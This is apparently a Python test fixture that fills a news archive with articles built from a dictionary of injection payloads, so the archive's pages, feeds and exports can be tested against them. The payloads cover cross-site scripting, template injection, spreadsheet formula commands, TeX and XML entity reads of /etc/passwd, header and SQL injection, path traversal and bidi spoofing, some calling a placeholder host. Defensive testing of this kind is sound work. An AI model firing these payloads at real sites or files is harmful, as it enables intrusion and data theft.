"""Articles that try to do harm: every text of them is one of HOSTILE. For the pages, feeds and files of an archive."""

import html
import json
from dataclasses import replace
from pathlib import Path

from filled import Filler, article, response

from archive.article import Attachment, Credit, Image
from archive.directory import ArchiveDirectory
from archive.plain import plain

RUN = "window.hacked=1"

#: By what it tries: text as a page could hold it. Whatever runs sets window.hacked.
HOSTILE = {
    "script": f"<script>{RUN}</script>",
    "script of another site": '<script src="//evil.example/x.js"></script>',
    "closing the title": f"</title></textarea></style><script>{RUN}</script>",
    "closing the script": f"</script><script>{RUN}</script>",
    "closing the comment": f"--><script>{RUN}</script><!--",
    "handler": f'<img src=x onerror="{RUN}">',
    "handler without quotes": f"<body onload={RUN}><details open ontoggle={RUN}>",
    "handler out of an attribute": f'" autofocus onfocus="{RUN}" x="',
    "handler out of single quotes": f"' onmouseover='{RUN}' x='",
    "handler behind a slash": f"<svg/onload={RUN}>",
    "javascript address": f'<a href="javascript:{RUN}">工会</a>',
    "javascript address in entities": f'<a href="&#106;ava&#x0A;script&colon;{RUN}">工会</a>',
    "data address": f'<iframe src="data:text/html,<script>parent.{RUN[7:]}</script>"></iframe>',
    "frame": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe><object data="//evil.example/x"></object>',
    "SVG": f'<svg><a xlink:href="javascript:{RUN}"><text>x</text></a><animate onbegin="{RUN}" dur=1s /></svg>',
    "SVG in a foreign object": f"<svg><foreignObject><script>{RUN}</script></foreignObject></svg>",
    "MathML": f'<math><mtext><table><mglyph><style><img src=x onerror="{RUN}"></style></mglyph></table></mtext></math>',
    "mutation": f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    "style": "<style>@import '//evil.example/x.css'; body { display: none }</style>",
    "style attribute": '<p style="position:fixed;inset:0;background:url(//evil.example/x)">工会</p>',
    "refresh": '<meta http-equiv="refresh" content="0;url=//evil.example"><base href="//evil.example/">',
    "form": '<form action="//evil.example"><input name=q autofocus><button formaction=//evil.example>Go</form>',
    "link": '<link rel="stylesheet" href="//evil.example/x.css"><img src="//evil.example/pixel.gif">',
    "template of Jinja": "{{ 7919 * 7907 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "template comment": "{# {{ request }} #}${7919*7907}<%= 7919*7907 %>%(hacked)s{0.__class__}",
    "malformed tags": f"<<script>{RUN}//<</script><img src='x' \"onerror={RUN}><p><b><i>",
    "unclosed tag": f"<img src=x alt='工会 <script>{RUN}",
    "unclosed comment": "<!-- 工会 <![CDATA[ x",
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"工会")',
    "formula of plus": "+cmd|' /C calc'!A0",
    "formula of minus": "-2+3+cmd|' /C calc'!A0",
    "formula of at": "@SUM(1+9)*cmd|' /C calc'!A0",
    "formula behind a tab": "\t=1+1",
    "formula behind a quote": "'=1+1",
    "full-width formula": "＝1+1",
    "CSV": 'a","b";c\r\n"=1+1",""',
    "BibTeX": "工会}, author = {Hacked}, note = {x\n}\n@online{hacked, title = {1}}\n@comment{",
    "TeX": "\\input{/etc/passwd} \\write18{id} % \\end{document} $x^2$ #1 & _ ~ ^ {",
    "unbalanced braces": "}}}{ \\ { \\}",
    "RIS": "工会\r\nER  - \r\n\r\nTY  - BOOK\r\nTI  - hacked\r\nER  - ",
    "XML": "]]></title></entry><entry><title>hacked</title>&hacked;&#0;<?xml version='1.0'?>",
    "XML entities": '<!DOCTYPE x [<!ENTITY hacked SYSTEM "file:///etc/passwd">]>&hacked;',
    "JSON": '"}],"hacked":[{"\\u2028\u2028\u2029',
    "header": "工会\r\nSet-Cookie: hacked=1\r\nLocation: //evil.example\r\n\r\n<script>",
    "path": "../../../../etc/passwd%00/..%2f..%5c",
    "controls": "工\x00会\x01\x07\x08\x0b\x1b[2J\x1b]0;hacked\x07\x7f\x85\x9b31m\ufffe\uffff",
    "bidi controls": "工会\u202egnp.exe\u2066\u2067\u200f\u061c主席\u202a",
    "invisible": "工\u200b会\u200d\u2060\ufeff\u00ad主\U000e0041\ufe0f\ufe0f席",
    "SQL": "'; DROP TABLE articles; -- \" OR 1=1 * NEAR(",
    "LIKE": "100%_工会\\",
}

TEXTS = tuple(HOSTILE.values())


def _any(number: int) -> str:
    return TEXTS[number % len(TEXTS)]


def hostile(number: int):
    """The article whose headline and body are the text of that number; its other texts are those that follow."""
    text = _any(number)
    return article(
        number,
        title=text,
        kicker=_any(number + 1),
        subtitle=_any(number + 2),
        section=_any(number + 3),
        source=_any(number + 4),
        authors=(_any(number + 5), text),
        correspondents=(_any(number + 6),),
        editors=(_any(number + 7),),
        credits=(Credit(_any(number + 8), (_any(number + 9),)),),
        dateline=_any(number + 10),
        text=f"{text}\n\n{_any(number + 11)}",
        # Extraction never stores such HTML; an archive that was made by something else could.
        html=f"<p>{text}</p>{_any(number + 11)}",
        images=(Image(f"javascript:{RUN}", _any(number + 12)), Image("http://chengnan.example.org/a.png", text)),
        attachments=(Attachment(f"JavaScript:{RUN}", text), Attachment("http://chengnan.example.org/b.pdf", text)),
        language=_any(number + 13)[:30],
        translation_of=f"javascript:{RUN}",
    )


def fill(path: Path) -> ArchiveDirectory:
    """Make an archive of hostile articles: `hostile(n)` for every text, each also edited and some withdrawn."""
    filler = Filler(path)
    filler.directory.config_file.write_text(
        f"name = {json.dumps(HOSTILE['script'])}\n[publish]\nrights = {json.dumps(HOSTILE['handler'])}", "utf-8"
    )
    connection = filler.db.conn
    connection.execute(
        "UPDATE sites SET name = ?, name_en = ?, level = ?, region = ?, home = ? WHERE id = 'chengnan'",
        [HOSTILE["script"], HOSTILE["handler"], HOSTILE["SVG"], HOSTILE["path"], f"javascript:{RUN}"],
    )
    for number in range(len(TEXTS)):
        one = hostile(number)
        # The page as it was before: the same but for its headline, so that there is an edit to compare.
        filler.capture(one.url, response(one), site="chengnan")
        filler.page(replace(one, title=f"旧 {one.title}"))
        filler.page(one)
    connection.execute("UPDATE articles SET withdrawn_at = '2025-04-01T00:00:00Z' WHERE id % 5 = 0")
    connection.execute(
        "INSERT INTO aliases (url, uid) SELECT ? || rowid, uid FROM articles WHERE url LIKE '%/1.html'",
        [f'http://chengnan.example.org/"><script>{RUN}</script>'],
    )
    # A lone surrogate in UTF-8: only bytes that were never a text can hold it, and no text of the search index may.
    connection.execute("UPDATE articles SET dateline = CAST(x'E5B7A5EDA080E4BC9A' AS TEXT) WHERE url LIKE '%/2.html'")
    return filler.close()


def visible(text: str) -> str:
    """What of a text can be seen, without white space: what HTML cannot hold is lost, or shown by its number."""
    return "".join(plain(html.unescape(text).replace("\ufffd", "")).split())
